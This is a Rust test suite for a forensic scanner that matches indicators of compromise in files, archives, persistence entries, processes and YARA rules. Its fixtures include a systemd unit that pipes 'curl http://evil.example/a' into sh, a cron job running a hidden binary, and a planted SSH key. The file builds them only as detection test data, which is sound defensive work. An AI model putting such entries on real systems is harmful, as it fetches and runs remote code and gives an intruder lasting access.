//! `tegakari scan`: what is met, what is not read, and that nothing is changed.

use std::io::Write as _;
use std::path::Path;

use serde_json::Value;

use crate::support::{Place, Ran, finding};

const EVIL: &[u8] = b"not a virus, only a test\n";
/// Its digests, as coreutils say.
const MD5: &str = "5cc8a4db06cb285af8f20b2ca905e10a";
const SHA1: &str = "8432fd8babd15dac6dabed3f86b953f161343544";
const SHA256: &str = "e6cdda2c3fcde4b80caebc071577101a2accf3cd56423eebacee03f3eb5c7d47";
const OTHER: &str = "1111111111111111111111111111111111111111111111111111111111111112";

fn unread<'a>(scan: &'a Value, reason: &str) -> &'a Value {
    scan["unread"]
        .as_array()
        .unwrap()
        .iter()
        .find(|one| one["reason"] == reason)
        .unwrap_or_else(|| panic!("nothing for {reason} in {}", scan["unread"]))
}

fn scan(place: &Place, arguments: &[&str]) -> Ran {
    let mut all = vec!["scan", "--format", "json", "-q"];
    all.extend(arguments);
    place.run(&all)
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

/// A tar archive of one file.
fn tar(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut header = [0_u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..108].copy_from_slice(b"0000644\0");
    header[124..136].copy_from_slice(format!("{:011o}\0", bytes.len()).as_bytes());
    header[156] = b'0';
    header[148..156].fill(b' ');
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let mut out = header.to_vec();
    out.extend(bytes);
    out.resize(out.len().next_multiple_of(512) + 1024, 0);
    out
}

/// A zip archive of one stored file, encrypted by its flag alone when `locked`.
fn zip(name: &str, bytes: &[u8], locked: bool) -> Vec<u8> {
    let size = u32::try_from(bytes.len()).unwrap().to_le_bytes();
    let mut out = b"PK\x03\x04\x14\0".to_vec();
    out.extend([u8::from(locked), 0, 0, 0, 0, 0, 0, 0]);
    out.extend([0; 4]);
    out.extend(size);
    out.extend(size);
    out.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
    out.extend([0, 0]);
    out.extend(name.as_bytes());
    out.extend(bytes);
    out.extend(b"PK\x05\x06");
    out.extend([0; 18]);
    out
}

#[test]
fn files_are_met_by_each_hash_by_name_and_by_path() {
    let place = Place::new();
    place.write("disk/Users/a/AppData/Roaming/evil one.exe", EVIL);
    place.write("disk/other.txt", "nothing");
    for value in [
        MD5,
        SHA1,
        SHA256,
        "EVIL ONE.EXE",
        "C:\\Users\\a\\AppData\\Roaming\\evil one.exe",
        "%APPDATA%\\evil one.exe",
    ] {
        let json = scan(&place, &["disk", "--value", value]).exits(1).json();
        assert_eq!(json["schema"], "tegakari/scan/1");
        let met = &json["findings"][0];
        assert_eq!(met["finding"], "seen", "{value}: {met}");
        assert_eq!(
            met["matches"][0]["place"],
            "disk/Users/a/AppData/Roaming/evil one.exe"
        );
    }
    let json = scan(&place, &["disk", "--value", OTHER]).exits(0).json();
    let basis = &json["findings"][0]["basis"];
    assert_eq!(
        (&basis["searched"], &basis["unsearched"]),
        (&2.into(), &0.into())
    );
    assert_eq!(basis["searched_bytes"], EVIL.len() + 7);
}

#[test]
fn the_answer_is_read_in_both_languages_and_line_by_line() {
    let place = Place::new();
    place.write("disk/evil.exe", EVIL);
    let values = [
        "scan",
        "disk",
        "--value",
        SHA1,
        "--value",
        OTHER,
        "--value",
        "evil.example",
    ];
    let english = place.run(&values).exits(1).stdout();
    for words in [
        "1 of 3 indicators",
        "disk/evil.exe",
        "same hash",
        SHA256,
        "--contents",
    ] {
        assert!(english.contains(words), "{words} is not in:\n{english}");
    }
    let mut japanese = values.to_vec();
    japanese.extend(["--lang", "ja"]);
    let japanese = place.run(&japanese).exits(1).stdout();
    assert!(japanese.contains("3 件の指標のうち 1 件"), "{japanese}");
    let mut lines = values.to_vec();
    lines.extend(["--format", "jsonl"]);
    let lines = place.run(&lines).exits(1).json_lines();
    let only: Vec<Value> = lines
        .into_iter()
        .filter(|one| one["line"] == "finding")
        .collect();
    assert_eq!(finding(&only, SHA1)["finding"], "seen");
    assert_eq!(finding(&only, OTHER)["finding"], "not_seen");
    assert_eq!(finding(&only, "evil.example")["finding"], "cannot_tell");
}

#[test]
fn contents_are_searched_where_that_is_asked_for() {
    let place = Place::new();
    let mut file = vec![0, 1, 2];
    file.extend(
        "http://evil.example/x"
            .encode_utf16()
            .flat_map(u16::to_le_bytes),
    );
    place.write("disk/a.bin", &file);
    place.write("disk/b.gz", gzip(b"GET 198.51.100.23 now"));
    let values = [
        "disk",
        "--value",
        "evil.example",
        "--value",
        "198.51.100.23",
    ];
    scan(&place, &values).exits(3);
    let mut with = values.to_vec();
    with.push("--contents");
    let json = scan(&place, &with).exits(1).json();
    let places: Vec<&Value> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| &one["matches"][0])
        .collect();
    assert_eq!(places[0]["place"], "disk/b.gz!b");
    assert_eq!(
        (&places[1]["place"], &places[1]["offset"]),
        (&"disk/a.bin".into(), &17.into())
    );
}

#[test]
fn archives_are_opened_within_limits_and_what_is_not_is_counted() {
    let place = Place::new();
    let inner = zip("x/evil.exe", EVIL, false);
    place.write("disk/a.tgz", gzip(&tar("in.zip", &inner)));
    place.write("disk/locked.zip", zip("secret.exe", EVIL, true));
    place.write("disk/b.7z", b"7z\xbc\xaf\x27\x1c....");
    place.write("disk/cut.gz", &gzip(&[7; 9000])[..20]);
    let mut deep = EVIL.to_vec();
    for _ in 0..6 {
        deep = gzip(&deep);
    }
    place.write("disk/deep.gz", deep);
    let json = scan(
        &place,
        &["disk", "--value", SHA256, "--value", "secret.exe"],
    )
    .exits(1)
    .json();
    let findings = json["findings"].as_array().unwrap();
    let places: Vec<&str> = findings
        .iter()
        .flat_map(|one| one["matches"].as_array().unwrap())
        .map(|one| one["place"].as_str().unwrap())
        .collect();
    assert_eq!(
        places,
        [
            "disk/a.tgz!a!in.zip!x/evil.exe",
            "disk/locked.zip!secret.exe"
        ]
    );
    for (reason, example) in [
        ("encrypted", "disk/locked.zip!secret.exe"),
        ("not_opened", "disk/b.7z"),
        ("damaged", "disk/cut.gz!cut"),
    ] {
        assert_eq!(unread(&json, reason)["examples"][0], example);
    }
    let too_deep = unread(&json, "archive_limit")["examples"][0]
        .as_str()
        .unwrap();
    assert!(too_deep.starts_with("disk/deep.gz!"), "{too_deep}");
}

#[test]
fn the_same_comes_out_with_any_number_of_threads() {
    let place = Place::new();
    for n in 0..300 {
        let evil = if n % 7 == 0 { EVIL } else { b"x" };
        place.write(&format!("disk/{}/{n}.exe", n % 13), evil);
    }
    let known = place.write("known.txt", format!("{SHA1}\n"));
    let run = |threads: &str| {
        let known = known.to_str().unwrap();
        let more = [
            "disk",
            "--value",
            SHA256,
            "--known-good",
            known,
            "--threads",
            threads,
        ];
        scan(&place, &more).exits(1).stdout()
    };
    let one = run("1");
    assert_eq!(one, run("2"));
    assert_eq!(one, run("7"));
    let json: Value = serde_json::from_str(&one).unwrap();
    assert_eq!(json["findings"][0]["count"], 43);
    assert_eq!(json["tally"]["known_good"], 43);
    let file = &json["findings"][0]["matches"][0]["file"];
    assert_eq!(file["known_good"], known.to_str().unwrap());
}

#[test]
fn what_is_too_big_or_missing_is_said() {
    let place = Place::new();
    place.write("disk/big", [1; 100]);
    place.write("disk/small", [1; 10]);
    let limited = ["disk", "--value", OTHER, "--max-size", "50"];
    let json = scan(&place, &limited).exits(3).json();
    assert_eq!(json["tally"]["names"], 2);
    assert_eq!(unread(&json, "too_big")["bytes"], 100);
    assert_eq!(json["findings"][0]["finding"], "not_seen");
    scan(&place, &["disk", "nowhere", "--value", OTHER]).exits(2);
    scan(&place, &["nowhere", "--value", OTHER]).exits(2);
    scan(&place, &["disk"])
        .exits(2)
        .says(&["nothing to look for"]);
}

#[test]
fn what_is_given_twice_is_read_once() {
    let place = Place::new();
    place.write("disk/a/evil.exe", EVIL);
    place.write("disk/b", "x");
    let paths = [
        "disk/a",
        "disk",
        "./disk",
        "disk/a/evil.exe",
        "--value",
        SHA256,
    ];
    let json = scan(&place, &paths).exits(1).json();
    assert_eq!(json["tally"]["files"], 2);
    assert_eq!(json["findings"][0]["count"], 1);
}

#[cfg(unix)]
mod unix {
    use std::ffi::OsStr;
    use std::fs;
    use std::os::unix::ffi::OsStrExt as _;
    use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};
    use std::path::PathBuf;
    use std::process::Command;

    use super::*;

    #[test]
    fn hostile_names_links_and_special_files_cost_only_themselves() {
        let place = Place::new();
        place.write("disk/\u{1b}[31m\nevil.exe", EVIL);
        let bad: PathBuf = place.path("disk").join(OsStr::from_bytes(b"\xff\xfe.exe"));
        fs::write(bad, EVIL).unwrap();
        symlink("..", place.path("disk/up")).unwrap();
        symlink("self", place.path("disk/self")).unwrap();
        symlink("evil", place.path("disk/nothing")).unwrap();
        symlink("/etc", place.path("disk/out")).unwrap();
        let fifo = place.path("disk/pipe");
        assert!(
            Command::new("mkfifo")
                .arg(&fifo)
                .status()
                .unwrap()
                .success()
        );
        let _socket = std::os::unix::net::UnixListener::bind(place.path("disk/socket")).unwrap();
        let ran = place
            .run(&["scan", "disk", "--value", SHA256, "--color", "never"])
            .exits(1);
        let text = ran.stdout();
        assert!(!text.contains('\u{1b}'), "{text}");
        assert!(
            text.contains("\\x1b[31m\\nevil.exe") && text.contains("\\xff\\xfe.exe"),
            "{text}"
        );
        let json = scan(&place, &["disk", "--value", SHA256]).exits(1).json();
        assert_eq!(json["findings"][0]["count"], 2);
        assert_eq!(unread(&json, "special")["files"], 2);
        // `up` leads out of what was searched.
        assert_eq!(unread(&json, "link_outside")["files"], 2);
        assert_eq!(unread(&json, "link_broken")["files"], 2);
    }

    #[test]
    fn a_file_of_holes_is_not_read_and_said() {
        let place = Place::new();
        place.write("disk/a", "x");
        let holes = fs::File::create(place.path("disk/holes")).unwrap();
        if holes.set_len(1 << 40).is_err() {
            eprintln!("SKIP: this file system has no files of a terabyte");
            return;
        }
        let json = scan(&place, &["disk", "--value", OTHER]).exits(3).json();
        assert_eq!(unread(&json, "sparse")["bytes"], 1_u64 << 40);
    }

    #[test]
    fn evidence_is_as_it_was() {
        let place = Place::new();
        let file = place.write("disk/a/evil.zip", zip("evil.exe", EVIL, false));
        let old = std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(86_400);
        let times = fs::FileTimes::new().set_accessed(old).set_modified(old);
        fs::File::options()
            .write(true)
            .open(&file)
            .unwrap()
            .set_times(times)
            .unwrap();
        let about = |path: &Path| {
            let about = fs::metadata(path).unwrap();
            (
                about.mtime(),
                about.atime(),
                about.ctime(),
                about.mode(),
                about.len(),
            )
        };
        let before = (about(&file), fs::read(&file).unwrap());
        // Reading it here may have changed its time of access.
        fs::File::options()
            .write(true)
            .open(&file)
            .unwrap()
            .set_times(times)
            .unwrap();
        let before = (about(&file), before.1);
        scan(&place, &["disk", "--value", SHA256, "--contents"]).exits(1);
        assert_eq!(about(&file), before.0);
        assert_eq!(fs::read(&file).unwrap(), before.1);
    }

    #[test]
    fn what_may_not_be_read_is_counted() {
        let place = Place::new();
        let closed = place.write("disk/closed/evil.exe", EVIL);
        place.write("disk/open", "x");
        let folder = closed.parent().unwrap();
        fs::set_permissions(folder, fs::Permissions::from_mode(0o0)).unwrap();
        let may_all_the_same = fs::read_dir(folder).is_ok();
        let ran = scan(&place, &["disk", "--value", SHA256]);
        fs::set_permissions(folder, fs::Permissions::from_mode(0o755)).unwrap();
        if may_all_the_same {
            eprintln!("SKIP: this user may read everything");
            return;
        }
        let json = ran.exits(3).json();
        assert_eq!(unread(&json, "no_permission")["folders"], 1);
    }

    #[test]
    fn what_the_kernel_makes_up_is_passed_over() {
        if !Path::new("/proc/self/mountinfo").exists() {
            eprintln!("SKIP: there is no /proc");
            return;
        }
        let place = Place::new();
        let json = scan(&place, &["/proc", "--value", OTHER]).exits(3).json();
        assert_eq!(unread(&json, "virtual")["folders"], 1);
    }
}

#[cfg(target_os = "linux")]
mod of_systems {
    use super::*;

    #[test]
    fn what_starts_by_itself_is_listed_and_searched() {
        let place = Place::new();
        place.write("img/tmp/.x/run", EVIL);
        place.write("img/etc/cron.d/sys", "*/5 * * * * root /tmp/.x/run\n");
        place.write(
            "img/etc/systemd/system/upd.service",
            "[Service]\nExecStart=/bin/sh -c 'curl http://evil.example/a | sh'\n",
        );
        place.write(
            "img/root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3Nz eve@there\n",
        );
        std::os::unix::fs::symlink("/etc/cron.d", place.path("img/etc/cron.link")).unwrap();
        let task = "<Task><Exec><Command>C:\\ProgramData\\evil.exe</Command></Exec></Task>";
        place.write("img/Windows/System32/Tasks/Vendor/Update", task);
        let below = ["--persistence", "--root", "img"];
        let json = scan(&place, &below).exits(0).json();
        let kinds: Vec<&str> = json["entries"]
            .as_array()
            .unwrap()
            .iter()
            .map(|one| one["kind"].as_str().unwrap())
            .collect();
        assert_eq!(kinds, ["cron", "ssh_keys", "systemd", "windows_tasks"]);
        let cron = &json["entries"][0];
        assert_eq!(cron["target"], "/tmp/.x/run");
        assert_eq!(cron["sha256"], SHA256);
        let mut with = below.to_vec();
        for value in [
            SHA1,
            "evil.example",
            "/tmp/.x/run",
            "evil.exe",
            "eve@there.example",
        ] {
            with.extend(["--value", value]);
        }
        let json = scan(&place, &with).exits(1).json();
        for one in json["findings"].as_array().unwrap() {
            let value = one["indicator"]["value"].as_str().unwrap();
            let wanted = if value.contains('@') {
                "cannot_tell"
            } else {
                "seen"
            };
            assert_eq!(one["finding"], wanted, "{one}");
            if wanted == "seen" {
                assert_eq!(one["matches"][0]["by"], "start", "{one}");
            }
        }
        let text = place.run(&["scan", "--persistence", "--root", "img", "--lang", "ja"]);
        assert!(text.exits(0).stdout().contains("自動的に起動されるもの"));
        scan(&place, &["--persistence", "--root", "none"]).exits(2);
    }

    #[test]
    fn processes_and_connections_of_this_machine_are_met() {
        use std::net::{TcpListener, TcpStream};
        let place = Place::new();
        let sleep = ["/usr/bin/sleep", "/bin/sleep"]
            .into_iter()
            .find(|path| Path::new(path).exists());
        let Some(sleep) = sleep else {
            eprintln!("SKIP: there is no sleep");
            return;
        };
        let copy = place.write("evil-daemon.bin", std::fs::read(sleep).unwrap());
        let mode = <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o755);
        std::fs::set_permissions(&copy, mode).unwrap();
        let mut child = std::process::Command::new(&copy).arg("60").spawn().unwrap();
        std::fs::remove_file(&copy).unwrap();
        // An address of this machine alone: 127.77.0.9 is loopback, and nobody else has it.
        let here = TcpListener::bind("127.77.0.9:0");
        let _there = here
            .as_ref()
            .ok()
            .map(|here| TcpStream::connect(here.local_addr().unwrap()).unwrap());
        let ran = scan(
            &place,
            &[
                "--live",
                "--value",
                "evil-daemon.bin",
                "--value",
                "127.77.0.0/24",
                "--value",
                OTHER,
            ],
        );
        child.kill().unwrap();
        child.wait().unwrap();
        let json = ran.exits(1).json();
        let by = |value: &str| {
            let all = json["findings"].as_array().unwrap();
            let one = all
                .iter()
                .find(|one| one["indicator"]["value"] == value)
                .unwrap();
            one["matches"][0]["by"]
                .as_str()
                .unwrap_or("none")
                .to_owned()
        };
        assert_eq!(by("evil-daemon.bin"), "process");
        if here.is_ok() {
            assert_eq!(by("127.77.0.0/24"), "connection");
        }
        let told = json["processes"].as_array().unwrap();
        let daemon = told
            .iter()
            .find(|one| {
                one["exe"]
                    .as_str()
                    .is_some_and(|exe| exe.ends_with("/evil-daemon.bin"))
            })
            .unwrap();
        assert_eq!(daemon["deleted"], true);
        assert_eq!(daemon["sha256"].as_str().unwrap().len(), 64);
    }
}

#[test]
fn a_list_of_known_files_without_a_hash_and_a_root_that_is_not_there_are_refused() {
    let place = Place::new();
    place.write("disk/evil.exe", EVIL);
    place.write("known.txt", "nothing\nof use\n");
    let ran = scan(
        &place,
        &["disk", "--value", SHA1, "--known-good", "known.txt"],
    );
    let told = ran.exits(2).stderr();
    assert!(told.contains("no hash stands in known.txt"), "{told}");
    let ran = place.run(&["scan", "--persistence", "--root", "nonexist"]);
    let told = ran.exits(2).stderr();
    assert!(told.contains("cannot read nonexist"), "{told}");
}

#[cfg(not(feature = "yara"))]
#[test]
fn a_program_without_the_engine_says_so() {
    let place = Place::new();
    place.write("disk/a", "x");
    place.write("a.yar", "rule a { condition: true }");
    let told = scan(&place, &["disk", "--yara", "a.yar"]).exits(2).stderr();
    assert!(told.contains("--features yara"), "{told}");
}

#[cfg(feature = "yara")]
mod with_yara {
    use super::*;

    const RULES: &str = r#"
        import "pe"
        rule Evil : T1059_001 FILE {
            meta:
                author = "An Analyst"
                description = "what the test is about"
                reference = "https://blog.example/a"
                score = 85
            strings:
                $a = "not a virus"
            condition:
                $a and not pe.is_pe
        }
        rule Broken { condition: nothing_known }
        rule Other { strings: $b = "never there" condition: $b }
        rule Name { condition: filename == "evil.exe" and extension == ".exe" and Evil }
        "#;

    fn rules(json: &Value) -> &Value {
        &json["rules"]
    }

    #[test]
    fn rules_are_asked_of_files_and_members_and_a_broken_one_costs_itself() {
        let place = Place::new();
        place.write("disk/evil.exe", EVIL);
        place.write("disk/a.tgz", gzip(&tar("in/evil.exe", EVIL)));
        place.write("disk/other", "nothing");
        place.write("rules/set/a.yar", RULES);
        let ran = scan(&place, &["disk", "--yara", "rules"]);
        let json = ran.exits(1).json();
        let of = rules(&json);
        assert_eq!((&of["rules"], &of["refused"]), (&3.into(), &1.into()));
        let seen = of["seen"].as_array().unwrap();
        assert_eq!(seen.len(), 2, "{of}");
        let evil = &seen[0];
        assert_eq!(evil["rule"]["name"], "Evil");
        assert_eq!(evil["rule"]["author"], "An Analyst");
        assert_eq!(evil["rule"]["file"], "rules/set/a.yar");
        assert_eq!(evil["rule"]["techniques"][0], "T1059.001");
        // The tar inside holds the same bytes, behind its header.
        let places: Vec<(&str, u64)> = evil["matches"]
            .as_array()
            .unwrap()
            .iter()
            .map(|one| {
                let offset = one["strings"][0]["offset"].as_u64();
                (one["place"].as_str().unwrap(), offset.unwrap())
            })
            .collect();
        assert_eq!(
            places,
            [
                ("disk/a.tgz!a", 512),
                ("disk/a.tgz!a!in/evil.exe", 0),
                ("disk/evil.exe", 0)
            ]
        );
        assert_eq!(evil["matches"][2]["file"]["sha256"], SHA256);
        assert_eq!(seen[1]["rule"]["name"], "Name");
        assert_eq!(seen[1]["count"], 2);
        let problem = &json["problems"][0];
        assert_eq!(problem["place"], "rules/set/a.yar:14:34", "{problem}");
        let text = place.run(&["scan", "disk", "--yara", "rules", "--lang", "ja"]);
        let text = text.exits(1).stdout();
        for words in [
            "一致した YARA ルール",
            "An Analyst",
            "スコア 85",
            "T1059.001",
        ] {
            assert!(text.contains(words), "{words} is not in:\n{text}");
        }
        let lines = place.run(&["scan", "disk", "--yara", "rules", "--format", "jsonl"]);
        let lines = lines.exits(1).json_lines();
        assert_eq!(lines.iter().filter(|one| one["line"] == "rule").count(), 2);
    }

    #[test]
    fn a_negative_rests_on_what_was_asked_and_on_the_rules_that_could_be() {
        let place = Place::new();
        place.write("disk/a", "x");
        place.write("disk/b", zip("locked", b"x", true));
        place.write("good.yar", "rule a { strings: $a = \"abc\" condition: $a }");
        let json = scan(&place, &["disk", "--yara", "good.yar"])
            .exits(3)
            .json();
        let others = &rules(&json)["others"];
        assert_eq!(others["finding"], "not_seen");
        assert_eq!(others["basis"]["by"], "rules");
        assert_eq!(
            (&others["basis"]["searched"], &others["basis"]["unsearched"]),
            (&2.into(), &1.into())
        );
        std::fs::remove_file(place.path("disk/b")).unwrap();
        scan(&place, &["disk", "--yara", "good.yar"]).exits(0);
        // A rule that cannot be used was asked of nothing.
        place.write(
            "half.yar",
            "rule a { strings: $a = \"abc\" condition: $a }\nrule b { condition: c }",
        );
        scan(&place, &["disk", "--yara", "half.yar"]).exits(3);
        place.write("bad.yar", "rule b { condition: c }");
        let told = scan(&place, &["disk", "--yara", "bad.yar"])
            .exits(2)
            .stderr();
        assert!(told.contains("bad.yar:1:21"), "{told}");
    }

    #[test]
    fn what_rules_include_is_taken_from_their_folder_and_from_nowhere_else() {
        let place = Place::new();
        place.write("disk/a", EVIL);
        place.write("outside.yar", "rule Outside { condition: true }");
        place.write(
            "rules/index.yar",
            "include \"./sub/base.inc\"\ninclude \"../outside.yar\"\ninclude \"none.yar\"\n\
             rule Top { condition: Base }",
        );
        place.write(
            "rules/sub/base.inc",
            "include \"../index.yar\"\nrule Base { strings: $a = \"virus\" condition: $a }",
        );
        let json = scan(&place, &["disk", "--yara", "rules"]).exits(1).json();
        let names: Vec<&str> = rules(&json)["seen"]
            .as_array()
            .unwrap()
            .iter()
            .map(|one| one["rule"]["name"].as_str().unwrap())
            .collect();
        assert_eq!(names, ["Base", "Top"], "{}", json["problems"]);
        let places: Vec<&str> = json["problems"]
            .as_array()
            .unwrap()
            .iter()
            .map(|one| one["place"].as_str().unwrap())
            .collect();
        assert_eq!(places, ["rules/index.yar:2", "rules/index.yar:3"]);
    }

    #[test]
    fn any_number_of_threads_gives_the_same_bytes() {
        let place = Place::new();
        for number in 0..20 {
            place.write(&format!("disk/{number}"), EVIL);
        }
        place.write("a.yar", RULES);
        let of = |threads: &str| {
            let ran = scan(&place, &["disk", "--yara", "a.yar", "--threads", threads]);
            ran.exits(1).stdout()
        };
        assert_eq!(of("1"), of("4"));
    }
}

/// What Windows notes of a program: a file of Prefetch, of version 26, which is not compressed.
fn prefetch() -> Vec<u8> {
    let wide = |text: &str| -> Vec<u8> { text.encode_utf16().flat_map(u16::to_le_bytes).collect() };
    let strings = wide("\\DEVICE\\HARDDISKVOLUME2\\USERS\\A\\EVIL ONE.EXE\0");
    let mut out = vec![0; 400];
    let mut put = |at: usize, bytes: &[u8]| out[at..at + bytes.len()].copy_from_slice(bytes);
    put(0, &26_u32.to_le_bytes());
    put(4, b"SCCA");
    put(16, &wide("EVIL ONE.EXE"));
    put(100, &400_u32.to_le_bytes());
    put(104, &u32::try_from(strings.len()).unwrap().to_le_bytes());
    put(128, &133_444_736_000_000_000_u64.to_le_bytes());
    put(208, &7_u32.to_le_bytes());
    out.extend(strings);
    out
}

#[cfg(target_os = "linux")]
#[test]
fn programs_that_are_gone_are_met_in_what_windows_notes() {
    let place = Place::new();
    place.write("img/WINDOWS/Prefetch/EVIL ONE.EXE-12345678.pf", prefetch());
    place.write("img/WINDOWS/Prefetch/BAD.EXE-12345678.pf", "no prefetch");
    let below = ["--executed", "--root", "img"];
    let json = scan(&place, &below).exits(0).json();
    let trace = &json["traces"][0];
    assert_eq!(trace["path"], "C:\\USERS\\A\\EVIL ONE.EXE");
    assert_eq!(
        (&trace["runs"], &trace["shows"]),
        (&7.into(), &"executed".into())
    );
    assert_eq!(trace["last"], "2023-11-14T22:13:20Z");
    assert_eq!(unread(&json, "damaged")["files"], 1);
    for value in [
        "EVIL ONE.EXE",
        "C:\\Users\\a\\Evil One.exe",
        "%USERPROFILE%\\evil one.exe",
    ] {
        let mut with = below.to_vec();
        with.extend(["--value", value]);
        let json = scan(&place, &with).exits(1).json();
        let met = &json["findings"][0]["matches"][0];
        assert_eq!(met["by"], "executed", "{value}: {met}");
        assert!(
            met["excerpt"].as_str().unwrap().contains("2023-11-14"),
            "{met}"
        );
    }
    let mut with = below.to_vec();
    with.extend(["--persistence", "--value", "other.exe", "--lang", "ja"]);
    let mut all = vec!["scan"];
    all.extend(with);
    let text = place.run(&all).exits(3).stdout();
    assert!(text.contains("Windows が記録していたプログラム"), "{text}");
}

#[cfg(target_os = "linux")]
#[test]
fn homes_of_daemons_are_searched_and_programs_of_windows_are_found_in_any_case() {
    let place = Place::new();
    let passwd = "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nbad\n";
    place.write("img/etc/passwd", passwd);
    place.write("img/var/www/.bashrc", "/opt/.x/run\n");
    place.write("img/opt/.x/run", EVIL);
    place.write("img/ProgramData/Evil.exe", EVIL);
    let task = "<Task><Exec><Command>cmd</Command><Arguments>/c start c:\\PROGRAMDATA\\evil.exe</Arguments></Exec></Task>";
    place.write("img/Windows/System32/Tasks/Update", task);
    place.write("img/Windows/System32/Tasks/Cut", "<Task><Exec><Command>x");
    let json = scan(&place, &["--persistence", "--root", "img"])
        .exits(0)
        .json();
    let entries = json["entries"].as_array().unwrap();
    let of = |kind: &str| entries.iter().find(|one| one["kind"] == kind).unwrap();
    let profile = of("shell_profiles");
    assert_eq!(profile["user"], "www-data");
    assert_eq!(profile["target"], "/opt/.x/run");
    assert_eq!(profile["sha256"], SHA256);
    let task = entries
        .iter()
        .find(|one| one["stated"].as_str().unwrap().ends_with("/Update"));
    assert_eq!(task.unwrap()["sha256"], SHA256, "{json}");
    assert_eq!(unread(&json, "damaged")["files"], 1);
}

#[test]
fn a_member_whose_checksum_is_wrong_is_damaged_and_has_no_hash() {
    let place = Place::new();
    let mut archive = zip("evil.exe", EVIL, false);
    archive[14..18].copy_from_slice(&1_u32.to_le_bytes());
    place.write("disk/a.zip", &archive);
    let json = scan(&place, &["disk", "--value", SHA1]).exits(3).json();
    assert_eq!(unread(&json, "damaged")["files"], 1);
    assert_eq!(
        unread(&json, "damaged")["examples"][0],
        "disk/a.zip!evil.exe"
    );
    let problem = json["problems"][0]["what"].as_str().unwrap();
    assert!(problem.contains("CRC-32"), "{problem}");
    // Its name is known all the same.
    scan(&place, &["disk", "--value", "evil.exe"]).exits(1);
}
